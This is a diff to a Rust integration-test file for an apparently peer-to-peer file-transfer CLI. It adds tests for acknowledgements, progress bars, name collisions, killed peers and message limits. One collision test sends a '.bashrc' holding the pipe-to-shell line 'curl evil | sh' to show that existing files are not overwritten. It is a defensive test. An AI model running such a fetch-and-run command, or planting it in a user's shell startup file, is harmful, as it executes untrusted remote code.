@@ -4,8 +4,9 @@
 //! path in the name, a transfer cut short) or to check the exact messages the CLI sends.
 //! Needs a non-loopback interface for ICE host candidates: run inside tests/scripts/in-netns.sh.
 //!
-//! `MIAOU_BIG_FILE_MIB` (default 64) sets the size of the streaming test's file; from 256 MiB on
-//! it also asserts that both processes peaked below 100 MiB of resident memory.
+//! `MIAOU_BIG_FILE_MIB` (default 64) sets the size of the streaming test's file; at every size
+//! it asserts that both processes peaked well below the file's size in resident memory (see
+//! [`flat_memory_bound_kib`]).
 
 mod common;
 
@@ -20,6 +21,9 @@ use std::time::{Duration, Instant};
 
 const BIN: &str = env!("CARGO_BIN_EXE_native-demo");
 const CHUNK: usize = 64 * 1024;
+/// The largest message `send` and `receive` accept: one chunk plus 4 KiB for a control message
+/// (docs/file-transfer.md).
+const MAX_MESSAGE: usize = CHUNK + 4096;
 
 /// A child process killed on drop; stdout lines arrive on a channel, stderr is collected.
 struct Proc {
@@ -68,6 +72,30 @@ impl Proc {
             );
             thread::sleep(Duration::from_millis(20));
         }
+    }
+
+    /// Waits until stderr contains `needle`; returns the whole stderr.
+    fn wait_stderr(&self, needle: &str, timeout: Duration) -> String {
+        let deadline = Instant::now() + timeout;
+        loop {
+            let stderr = self.stderr();
+            if stderr.contains(needle) {
+                return stderr;
+            }
+            assert!(
+                Instant::now() < deadline,
+                "no {needle:?} from {} within {timeout:?}; stderr:\n{stderr}",
+                self.name
+            );
+            thread::sleep(Duration::from_millis(20));
+        }
+    }
+
+    /// The peer id the command logged on joining the room (`peer_id=…`).
+    fn peer_id(&self) -> String {
+        let stderr = self.wait_stderr("peer_id=", Duration::from_secs(60));
+        let id = stderr.split("peer_id=").nth(1).unwrap();
+        id.split_whitespace().next().unwrap().to_owned()
     }
 
     /// The `peak RSS <n> KiB` the command logs on exit.
@@ -138,9 +166,61 @@ fn receive(ws: &str, room: &str, out: &Path, count: usize) -> Proc {
 }
 
 fn send(ws: &str, room: &str, files: &[PathBuf]) -> Proc {
-    let mut args = vec!["send", "--signal", ws, "--room", room, "--wait-peers", "1"];
+    send_with(ws, room, &["--wait-peers", "1"], files)
+}
+
+fn send_with(ws: &str, room: &str, options: &[&str], files: &[PathBuf]) -> Proc {
+    let mut args = vec!["send", "--signal", ws, "--room", room];
+    args.extend(options);
     args.extend(files.iter().map(|f| f.to_str().expect("UTF-8 temp path")));
     spawn("send", &args)
+}
+
+/// Asserts that `proc`'s piped stderr holds log lines only: no progress bar (its `ETA`, the
+/// carriage returns that redraw it, ANSI escapes).
+fn assert_no_progress_bar(proc: &Proc) {
+    let stderr = proc.stderr();
+    assert!(
+        !stderr.contains("ETA"),
+        "{}: progress bar on a pipe:\n{stderr}",
+        proc.name
+    );
+    assert!(
+        !stderr.contains('\r'),
+        "{}: carriage return on a pipe:\n{stderr}",
+        proc.name
+    );
+    assert!(
+        !stderr.contains('\x1b'),
+        "{}: ANSI escape on a pipe:\n{stderr}",
+        proc.name
+    );
+}
+
+/// Runs `sha256sum -c` in `dir` on `lines` (what `receive` printed); returns its stdout.
+fn sha256sum_check(dir: &Path, lines: &[String]) -> String {
+    let mut check = Command::new("sha256sum")
+        .arg("-c")
+        .current_dir(dir)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("sha256sum (coreutils) runs");
+    let mut stdin = check.stdin.take().unwrap();
+    for line in lines {
+        writeln!(stdin, "{line}").unwrap();
+    }
+    drop(stdin);
+    let output = check.wait_with_output().unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        output.status.success(),
+        "sha256sum -c in {}: {stdout}{}",
+        dir.display(),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    stdout
 }
 
 /// Deterministic pseudo-random bytes (SplitMix64), so a failure can be reproduced from the seed.
@@ -266,6 +346,333 @@ fn files_of_boundary_sizes_arrive_with_matching_sha256() {
         names,
         "exactly the files, no temporary file left"
     );
+    // The sender knows: each file was verified by the receiver, end to end.
+    let receiver_id = receiver.peer_id();
+    let stderr = sender.stderr();
+    for (name, _) in sizes {
+        assert!(
+            stderr
+                .lines()
+                .any(|l| l.contains(&format!("verified by {receiver_id}")) && l.contains(name)),
+            "no `verified by {receiver_id}` for {name}:\n{stderr}"
+        );
+    }
+    sha256sum_check(dst.path(), &lines);
+    assert_no_progress_bar(&sender);
+    assert_no_progress_bar(&receiver);
+}
+
+/// The other half of [`assert_no_progress_bar`]: on a terminal the bar is drawn. `script`
+/// (util-linux) runs `receive` on a pseudo-terminal and copies what it shows to our pipe.
+#[test]
+fn the_progress_bar_is_drawn_on_a_terminal() {
+    if Command::new("script").arg("--version").output().is_err() {
+        eprintln!("skipped: no `script` (util-linux) to provide a terminal");
+        return;
+    }
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let dst = tempfile::tempdir().unwrap();
+    let data = Noise(seed()).bytes(8 * 1024 * 1024);
+    let path = src.path().join("shown.bin");
+    std::fs::write(&path, &data).unwrap();
+    let command = format!(
+        "{BIN} receive --signal {ws} --room pty --out {}",
+        dst.path().to_str().unwrap()
+    );
+    let mut child = Command::new("script")
+        .args(["--quiet", "--return", "--command", &command, "/dev/null"])
+        .env("RUST_LOG", "info,webrtc=error")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("script starts");
+    let lines = common::stdout_lines(child.stdout.take().unwrap());
+    let stderr = common::collect_stderr(child.stderr.take().unwrap());
+    let mut terminal = Proc {
+        name: "receive on a terminal".into(),
+        child,
+        lines,
+        stderr,
+    };
+    let mut sender = send(&ws, "pty", &[path]);
+    assert!(
+        sender.wait_exit(Duration::from_secs(120)).success(),
+        "{}",
+        sender.stderr()
+    );
+    assert!(terminal.wait_exit(Duration::from_secs(60)).success());
+    let shown: Vec<String> = terminal.lines.try_iter().collect();
+    let shown = shown.join("\n");
+    assert!(
+        shown.contains(&format!("{}  shown.bin", sha256_hex(&data))),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("ETA") && shown.contains("shown.bin "),
+        "no progress bar:\n{shown}"
+    );
+}
+
+#[test]
+fn the_same_base_name_twice_from_one_sender_keeps_both_and_sha256sum_checks_them() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let dst = tempfile::tempdir().unwrap();
+    let mut files = Vec::new();
+    let mut expected = Vec::new();
+    for (dir, data, written) in [
+        ("a", b"first x".as_slice(), "x"),
+        ("b", b"second x", "x (1)"),
+    ] {
+        std::fs::create_dir(src.path().join(dir)).unwrap();
+        let path = src.path().join(dir).join("x");
+        std::fs::write(&path, data).unwrap();
+        files.push(path);
+        expected.push(format!("{}  {written}", sha256_hex(data)));
+    }
+    let mut receiver = receive(&ws, "same-name", dst.path(), 2);
+    let mut sender = send(&ws, "same-name", &files);
+    let lines: Vec<String> = (0..2)
+        .map(|_| receiver.next_line(Duration::from_secs(60)))
+        .collect();
+    assert_eq!(lines, expected, "the second x is written as `x (1)`");
+    assert!(
+        sender.wait_exit(Duration::from_secs(60)).success(),
+        "{}",
+        sender.stderr()
+    );
+    assert!(
+        receiver.wait_exit(Duration::from_secs(60)).success(),
+        "{}",
+        receiver.stderr()
+    );
+    assert_eq!(std::fs::read(dst.path().join("x")).unwrap(), b"first x");
+    assert_eq!(
+        std::fs::read(dst.path().join("x (1)")).unwrap(),
+        b"second x"
+    );
+    assert_eq!(names_in(dst.path()), ["x", "x (1)"]);
+    assert_eq!(sha256sum_check(dst.path(), &lines), "x: OK\nx (1): OK\n");
+}
+
+#[test]
+fn existing_files_are_untouched_and_two_senders_of_one_name_both_land() {
+    let (_bridge, ws) = bridge();
+    let dst = tempfile::tempdir().unwrap();
+    std::fs::write(dst.path().join(".bashrc"), b"# my shell").unwrap();
+    std::fs::write(dst.path().join("report.txt"), b"my report").unwrap();
+    let (src1, src2) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let write = |dir: &Path, name: &str, data: &[u8]| {
+        let path = dir.join(name);
+        std::fs::write(&path, data).unwrap();
+        path
+    };
+    let one = [
+        write(src1.path(), ".bashrc", b"curl evil | sh"),
+        write(src1.path(), "report.txt", b"report from one"),
+    ];
+    let two = [write(src2.path(), "report.txt", b"report from two")];
+    let mut receiver = receive(&ws, "collide", dst.path(), 3);
+    // Each sender sees the receiver and the other sender, which declines (it takes no files).
+    let mut sender1 = send_with(&ws, "collide", &["--wait-peers", "2"], &one);
+    let mut sender2 = send_with(&ws, "collide", &["--wait-peers", "2"], &two);
+    let mut lines: Vec<String> = (0..3)
+        .map(|_| receiver.next_line(Duration::from_secs(60)))
+        .collect();
+    for sender in [&mut sender1, &mut sender2] {
+        assert!(
+            sender.wait_exit(Duration::from_secs(60)).success(),
+            "{}",
+            sender.stderr()
+        );
+    }
+    let (id1, id2) = (sender1.peer_id(), sender2.peer_id());
+    assert!(
+        sender1.stderr().contains(&format!("declined by {id2}")),
+        "{}",
+        sender1.stderr()
+    );
+    assert!(
+        sender2.stderr().contains(&format!("declined by {id1}")),
+        "{}",
+        sender2.stderr()
+    );
+    assert!(
+        receiver.wait_exit(Duration::from_secs(60)).success(),
+        "{}",
+        receiver.stderr()
+    );
+    assert_eq!(
+        std::fs::read(dst.path().join(".bashrc")).unwrap(),
+        b"# my shell"
+    );
+    assert_eq!(
+        std::fs::read(dst.path().join("report.txt")).unwrap(),
+        b"my report"
+    );
+    assert_eq!(
+        std::fs::read(dst.path().join(".bashrc (1)")).unwrap(),
+        b"curl evil | sh"
+    );
+    let mut reports = [
+        std::fs::read(dst.path().join("report (1).txt")).unwrap(),
+        std::fs::read(dst.path().join("report (2).txt")).unwrap(),
+    ];
+    reports.sort();
+    assert_eq!(
+        reports,
+        [b"report from one".to_vec(), b"report from two".to_vec()]
+    );
+    assert_eq!(
+        names_in(dst.path()),
+        [
+            ".bashrc",
+            ".bashrc (1)",
+            "report (1).txt",
+            "report (2).txt",
+            "report.txt"
+        ],
+        "no temporary file left"
+    );
+    lines.sort();
+    let mut printed: Vec<&str> = lines
+        .iter()
+        .map(|l| l.split_once("  ").unwrap().1)
+        .collect();
+    printed.sort();
+    assert_eq!(printed, [".bashrc (1)", "report (1).txt", "report (2).txt"]);
+    sha256sum_check(dst.path(), &lines);
+}
+
+#[test]
+fn one_send_delivers_to_two_receivers_and_waits_for_both() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let (dst1, dst2) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let data = Noise(seed()).bytes(2 * CHUNK + 99);
+    let path = src.path().join("both.bin");
+    std::fs::write(&path, &data).unwrap();
+    let mut receivers = [
+        receive(&ws, "two", dst1.path(), 1),
+        receive(&ws, "two", dst2.path(), 1),
+    ];
+    let mut sender = send_with(&ws, "two", &["--wait-peers", "2"], &[path]);
+    let line = format!("{}  both.bin", sha256_hex(&data));
+    for receiver in &receivers {
+        assert_eq!(receiver.next_line(Duration::from_secs(60)), line);
+    }
+    assert!(
+        sender.wait_exit(Duration::from_secs(60)).success(),
+        "{}",
+        sender.stderr()
+    );
+    for receiver in &mut receivers {
+        assert!(
+            receiver.wait_exit(Duration::from_secs(60)).success(),
+            "{}",
+            receiver.stderr()
+        );
+        let id = receiver.peer_id();
+        assert!(
+            sender.stderr().contains(&format!("verified by {id}")),
+            "{id}:\n{}",
+            sender.stderr()
+        );
+    }
+    for dst in [&dst1, &dst2] {
+        assert!(std::fs::read(dst.path().join("both.bin")).unwrap() == data);
+    }
+}
+
+#[test]
+fn send_fails_naming_the_receiver_that_rejects_the_file() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let dst = tempfile::tempdir().unwrap();
+    // A control character is legal in a Linux file name; the receiver's name rule refuses it.
+    let path = src.path().join("bad\x01name");
+    std::fs::write(&path, b"refused").unwrap();
+    let mut receiver = receive(&ws, "nack", dst.path(), 1);
+    let mut sender = send(&ws, "nack", &[path]);
+    let receiver_id = receiver.peer_id();
+    let sent = sender.wait_exit(Duration::from_secs(60));
+    let stderr = sender.stderr();
+    assert!(
+        !sent.success(),
+        "send must fail when the receiver rejects; stderr:\n{stderr}"
+    );
+    assert!(
+        stderr.contains(&format!(
+            "error: {receiver_id} rejected bad\\u{{1}}name (transfer 1): bad name \"bad\\u{{1}}name\": control character in name"
+        )),
+        "{stderr}"
+    );
+    assert!(!receiver.wait_exit(Duration::from_secs(60)).success());
+    assert!(
+        receiver.stderr().contains("control character in name"),
+        "{}",
+        receiver.stderr()
+    );
+    assert!(
+        names_in(dst.path()).is_empty(),
+        "{:?}",
+        names_in(dst.path())
+    );
+}
+
+#[test]
+fn send_fails_naming_the_receiver_killed_mid_transfer() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let dst = tempfile::tempdir().unwrap();
+    let path = src.path().join("cut.bin");
+    std::fs::write(&path, Noise(seed()).bytes(64 * 1024 * 1024)).unwrap();
+    let mut receiver = receive(&ws, "killed", dst.path(), 1);
+    let mut sender = send(&ws, "killed", &[path]);
+    let receiver_id = receiver.peer_id();
+    receiver.wait_stderr("receiving", Duration::from_secs(60));
+    thread::sleep(Duration::from_millis(300));
+    receiver.child.kill().unwrap();
+    let sent = sender.wait_exit(Duration::from_secs(60));
+    let stderr = sender.stderr();
+    assert!(!sent.success(), "send must fail; stderr:\n{stderr}");
+    let error = stderr
+        .lines()
+        .find(|l| l.starts_with("error: "))
+        .unwrap_or_else(|| panic!("{stderr}"));
+    assert!(
+        error.contains(&receiver_id),
+        "the error names the receiver: {error}"
+    );
+    assert!(!stderr.contains("verified by"), "{stderr}");
+}
+
+#[test]
+fn receive_fails_when_the_sender_is_killed_mid_transfer() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let dst = tempfile::tempdir().unwrap();
+    let path = src.path().join("orphan.bin");
+    std::fs::write(&path, Noise(seed()).bytes(32 * 1024 * 1024)).unwrap();
+    let mut receiver = receive(&ws, "orphan", dst.path(), 1);
+    let mut sender = send(&ws, "orphan", &[path]);
+    receiver.wait_stderr("receiving", Duration::from_secs(60));
+    thread::sleep(Duration::from_millis(300));
+    sender.child.kill().unwrap();
+    let status = receiver.wait_exit(Duration::from_secs(60));
+    let stderr = receiver.stderr();
+    assert!(!status.success(), "{stderr}");
+    assert!(
+        stderr.contains("peer disconnected mid-file: transfer 1 (orphan.bin)"),
+        "{stderr}"
+    );
+    assert!(
+        names_in(dst.path()).is_empty(),
+        "partial file deleted: {:?}",
+        names_in(dst.path())
+    );
 }
 
 /// Streams one big file (MIAOU_BIG_FILE_MIB, default 64) and reports both processes' peak RSS.
@@ -330,16 +737,23 @@ fn big_file_streams_with_flat_memory() {
         send_rss as f64 / 1024.0,
         receive_rss as f64 / 1024.0
     );
-    if mib >= 256 {
-        assert!(
-            send_rss < 100 * 1024,
-            "send peaked at {send_rss} KiB for a {mib} MiB file"
-        );
-        assert!(
-            receive_rss < 100 * 1024,
-            "receive peaked at {receive_rss} KiB for a {mib} MiB file"
-        );
-    }
+    let bound = flat_memory_bound_kib();
+    assert!(
+        send_rss < bound,
+        "send peaked at {send_rss} KiB for a {mib} MiB file (bound {bound} KiB)"
+    );
+    assert!(
+        receive_rss < bound,
+        "receive peaked at {receive_rss} KiB for a {mib} MiB file (bound {bound} KiB)"
+    );
+}
+
+/// What `send` and `receive` may peak at in resident memory whatever the file size, KiB: 48 MiB
+/// (a debug build idles near 20 MiB; the receiver queues at most 64 messages of 68 KiB, the
+/// sender's channel buffers 1 MiB). The default 64 MiB file is larger than this, so a command
+/// that held the file in memory fails the check.
+fn flat_memory_bound_kib() -> u64 {
+    48 * 1024
 }
 
 // ---- one side played by the library ------------------------------------------------------------
@@ -357,9 +771,10 @@ fn runtime() -> tokio::runtime::Runtime {
         .unwrap()
 }
 
-/// Joins `room`, waits for one peer, sends `messages` to it, then closes (losslessly, when the
-/// peer is still there).
-async fn raw_send(ws: &str, room: &str, messages: Vec<Out>) {
+/// Joins `room`, waits for one peer, sends `messages` to it, waits (at most 30 s) until it got
+/// `acks` text messages back, then closes (losslessly, when the peer is still there). Returns
+/// the text messages it got.
+async fn raw_send(ws: &str, room: &str, messages: Vec<Out>, acks: usize) -> Vec<String> {
     let transport = Transport::connect(TransportConfig::builder(ws, room).build().unwrap())
         .await
         .unwrap();
@@ -376,10 +791,25 @@ async fn raw_send(ws: &str, room: &str, messages: Vec<Out>) {
             Out::Binary(data) => transport.send(&peer, Bytes::from(data)).await.unwrap(),
         }
     }
-    // A receive that rejected the transfer exits at once and never acknowledges our close.
+    let mut texts = Vec::new();
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
+    while texts.len() < acks {
+        match tokio::time::timeout_at(deadline, transport.recv()).await {
+            Ok(Some(message)) if message.text => texts.push(message.as_text().unwrap().to_owned()),
+            Ok(Some(_)) => {}
+            _ => break,
+        }
+    }
+    // A receive that rejected the transfer exits at once and may not acknowledge our close.
     if let Err(e) = transport.close().await {
         eprintln!("raw sender: close: {e}");
     }
+    texts
+}
+
+/// Parses an acknowledgement.
+fn json(text: &str) -> serde_json::Value {
+    serde_json::from_str(text).unwrap_or_else(|e| panic!("{text}: {e}"))
 }
 
 fn start(id: u32, name: &str, size: usize) -> Out {
@@ -403,7 +833,7 @@ fn a_path_in_the_name_is_reduced_to_its_base_name() {
     let mut receiver = receive(&ws, "names", &inbox, 2);
     let data = b"not where you think".to_vec();
     let sha = sha256_hex(&data);
-    runtime().block_on(raw_send(
+    let acks = runtime().block_on(raw_send(
         &ws,
         "names",
         vec![
@@ -415,7 +845,17 @@ fn a_path_in_the_name_is_reduced_to_its_base_name() {
             Out::Binary(data.clone()),
             end(2, &sha),
         ],
+        2,
     ));
+    let acks: Vec<serde_json::Value> = acks.iter().map(|a| json(a)).collect();
+    assert_eq!(
+        acks,
+        [
+            serde_json::json!({"type": "file-received", "id": 1, "sha256": sha}),
+            serde_json::json!({"type": "file-received", "id": 2, "sha256": sha}),
+        ],
+        "each verified file is acknowledged to its sender"
+    );
     assert_eq!(
         receiver.next_line(Duration::from_secs(60)),
         format!("{sha}  escaped.txt")
@@ -449,7 +889,7 @@ fn hash_mismatch_fails_receive_and_keeps_nothing() {
     let dst = tempfile::tempdir().unwrap();
     let mut receiver = receive(&ws, "bad-hash", dst.path(), 1);
     let data = vec![7u8; CHUNK + 10];
-    runtime().block_on(raw_send(
+    let acks = runtime().block_on(raw_send(
         &ws,
         "bad-hash",
         vec![
@@ -458,7 +898,21 @@ fn hash_mismatch_fails_receive_and_keeps_nothing() {
             Out::Binary(data[CHUNK..].to_vec()),
             end(1, &sha256_hex(b"something else")),
         ],
+        1,
     ));
+    assert_eq!(acks.len(), 1, "the sender is told: {acks:?}");
+    let nack = json(&acks[0]);
+    assert_eq!(
+        (&nack["type"], &nack["id"]),
+        (&"file-error".into(), &1.into())
+    );
+    assert!(
+        nack["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("hash mismatch in transfer 1 (tampered.bin): file-end says sha256"),
+        "{nack}"
+    );
     let status = receiver.wait_exit(Duration::from_secs(60));
     let stderr = receiver.stderr();
     assert!(
@@ -493,6 +947,7 @@ fn sender_leaving_mid_file_fails_receive() {
             Out::Binary(vec![1; CHUNK]),
             Out::Binary(vec![2; CHUNK]),
         ],
+        0,
     ));
     let status = receiver.wait_exit(Duration::from_secs(60));
     let stderr = receiver.stderr();
@@ -515,7 +970,15 @@ fn protocol_violation_fails_receive_with_a_clear_error() {
     let (_bridge, ws) = bridge();
     let dst = tempfile::tempdir().unwrap();
     let mut receiver = receive(&ws, "stray", dst.path(), 1);
-    runtime().block_on(raw_send(&ws, "stray", vec![Out::Binary(vec![0; 100])]));
+    let acks = runtime().block_on(raw_send(&ws, "stray", vec![Out::Binary(vec![0; 100])], 1));
+    assert_eq!(
+        acks.iter().map(|a| json(a)).collect::<Vec<_>>(),
+        [serde_json::json!({
+            "type": "file-error",
+            "reason": "chunk without start: 100-byte binary message with no file-start"
+        })],
+        "a fault of no transfer is acknowledged without id"
+    );
     let status = receiver.wait_exit(Duration::from_secs(60));
     let stderr = receiver.stderr();
     assert!(!status.success());
@@ -539,18 +1002,27 @@ fn send_emits_the_documented_messages_in_64_kib_chunks() {
         ))
         .unwrap();
     let mut sender = send(&ws, "chunks", &[path]);
-    let mut messages = Vec::new();
-    rt.block_on(async {
-        while messages.len() < 6 {
-            let message = tokio::time::timeout(Duration::from_secs(60), transport.recv())
-                .await
-                .expect("messages in time")
-                .unwrap();
-            messages.push(message);
-        }
-    });
+    let messages = rt.block_on(recv_n(&transport, 6));
+    // Until acknowledged, `send` waits.
+    thread::sleep(Duration::from_millis(500));
+    assert!(
+        sender.child.try_wait().unwrap().is_none(),
+        "send waits for file-received"
+    );
+    let ack = format!(
+        r#"{{"type":"file-received","id":1,"sha256":"{}"}}"#,
+        sha256_hex(&data)
+    );
+    rt.block_on(transport.send_text(&messages[0].from, &ack))
+        .unwrap();
     assert!(
         sender.wait_exit(Duration::from_secs(60)).success(),
+        "{}",
+        sender.stderr()
+    );
+    let me = transport.peer_id().to_string();
+    assert!(
+        sender.stderr().contains(&format!("verified by {me}")),
         "{}",
         sender.stderr()
     );
@@ -579,6 +1051,166 @@ fn send_emits_the_documented_messages_in_64_kib_chunks() {
     assert_eq!(
         endmsg,
         serde_json::json!({"type": "file-end", "id": 1, "sha256": sha256_hex(&data)})
+    );
+}
+
+/// The next `n` messages of `transport` (at most 60 s each).
+async fn recv_n(transport: &Transport, n: usize) -> Vec<miaou_transport::Message> {
+    let mut messages = Vec::new();
+    while messages.len() < n {
+        let message = tokio::time::timeout(Duration::from_secs(60), transport.recv())
+            .await
+            .expect("messages in time")
+            .unwrap();
+        messages.push(message);
+    }
+    messages
+}
+
+#[test]
+fn send_fails_on_a_missing_or_wrong_acknowledgement() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let path = src.path().join("unheard.txt");
+    std::fs::write(&path, b"is anybody there").unwrap();
+    let rt = runtime();
+    let transport = rt
+        .block_on(Transport::connect(
+            TransportConfig::builder(&ws, "acks").build().unwrap(),
+        ))
+        .unwrap();
+    let me = transport.peer_id().to_string();
+
+    // Nobody acknowledges: --ack-timeout.
+    let started = Instant::now();
+    let mut silent = send_with(
+        &ws,
+        "acks",
+        &["--ack-timeout", "2"],
+        std::slice::from_ref(&path),
+    );
+    rt.block_on(recv_n(&transport, 3)); // start, the one chunk, end
+    assert!(!silent.wait_exit(Duration::from_secs(60)).success());
+    assert!(
+        started.elapsed() < Duration::from_secs(40),
+        "{:?}",
+        started.elapsed()
+    );
+    assert!(
+        silent.stderr().contains(&format!(
+            "error: no acknowledgement of unheard.txt (transfer 1) from {me} within 2 s (--ack-timeout)"
+        )),
+        "{}",
+        silent.stderr()
+    );
+
+    // The acknowledgement names another hash.
+    let mut wrong = send(&ws, "acks", &[path]);
+    let messages = rt.block_on(recv_n(&transport, 3));
+    let zeros = "0".repeat(64);
+    let ack = format!(r#"{{"type":"file-received","id":1,"sha256":"{zeros}"}}"#);
+    rt.block_on(transport.send_text(&messages[0].from, &ack))
+        .unwrap();
+    assert!(!wrong.wait_exit(Duration::from_secs(60)).success());
+    assert!(
+        wrong.stderr().contains(&format!(
+            "error: {me} acknowledged unheard.txt (transfer 1) with sha256 {zeros}, we sent {}",
+            sha256_hex(b"is anybody there")
+        )),
+        "{}",
+        wrong.stderr()
+    );
+    rt.block_on(transport.close()).unwrap();
+}
+
+#[test]
+fn send_fails_naming_the_peer_that_refuses_its_messages() {
+    let (_bridge, ws) = bridge();
+    let src = tempfile::tempdir().unwrap();
+    let path = src.path().join("chunky.bin");
+    std::fs::write(&path, Noise(seed()).bytes(4 * CHUNK)).unwrap();
+    let rt = runtime();
+    // A peer whose transport takes messages of 1 KiB at most: every chunk is refused (RESET).
+    let config = TransportConfig::builder(&ws, "refuse")
+        .max_message_size(1024)
+        .build()
+        .unwrap();
+    let transport = rt.block_on(Transport::connect(config)).unwrap();
+    let me = transport.peer_id().to_string();
+    let mut sender = send(&ws, "refuse", &[path]);
+    let status = sender.wait_exit(Duration::from_secs(60));
+    let stderr = sender.stderr();
+    assert!(!status.success(), "{stderr}");
+    let error = stderr
+        .lines()
+        .find(|l| l.starts_with("error: "))
+        .unwrap_or_else(|| panic!("{stderr}"));
+    assert!(
+        error.contains(&format!("peer {me} refused a message")),
+        "the error names the refusing peer: {error}"
+    );
+    rt.block_on(transport.close()).ok();
+}
+
+#[test]
+fn receive_refuses_messages_larger_than_a_chunk_plus_control_headroom() {
+    let (_bridge, ws) = bridge();
+    let dst = tempfile::tempdir().unwrap();
+    let mut receiver = receive(&ws, "limit", dst.path(), 1);
+    let rt = runtime();
+    let data = Noise(seed()).bytes(CHUNK);
+    let acks = rt.block_on(async {
+        let transport = Transport::connect(TransportConfig::builder(&ws, "limit").build().unwrap())
+            .await
+            .unwrap();
+        let peer = loop {
+            match tokio::time::timeout(Duration::from_secs(60), transport.next_event()).await {
+                Ok(Some(Event::PeerConnected(peer))) => break peer,
+                Ok(Some(_)) => {}
+                other => panic!("no peer connected: {other:?}"),
+            }
+        };
+        // One byte over the limit: refused by the receiver's transport (RESET), reported to
+        // us by `send` or, when `send` had already returned, as an event.
+        let refused = match transport.send(&peer, vec![0u8; MAX_MESSAGE + 1]).await {
+            Err(error) => error,
+            Ok(()) => loop {
+                match tokio::time::timeout(Duration::from_secs(30), transport.next_event()).await {
+                    Ok(Some(Event::Error(error))) => break error,
+                    Ok(Some(_)) => {}
+                    other => panic!("no refusal: {other:?}"),
+                }
+            },
+        };
+        assert!(
+            matches!(refused, miaou_transport::Error::MessageRefused { .. }),
+            "{refused}"
+        );
+        // A full chunk still goes through: the connection stays up.
+        let start = format!(r#"{{"type":"file-start","id":1,"name":"full.bin","size":{CHUNK}}}"#);
+        transport.send_text(&peer, &start).await.unwrap();
+        transport
+            .send(&peer, Bytes::from(data.clone()))
+            .await
+            .unwrap();
+        let end = format!(
+            r#"{{"type":"file-end","id":1,"sha256":"{}"}}"#,
+            sha256_hex(&data)
+        );
+        transport.send_text(&peer, &end).await.unwrap();
+        let acks = recv_n(&transport, 1).await;
+        let _ = transport.close().await;
+        acks
+    });
+    assert_eq!(json(acks[0].as_text().unwrap())["type"], "file-received");
+    assert_eq!(
+        receiver.next_line(Duration::from_secs(60)),
+        format!("{}  full.bin", sha256_hex(&data))
+    );
+    assert!(
+        receiver.wait_exit(Duration::from_secs(60)).success(),
+        "{}",
+        receiver.stderr()
     );
 }
 
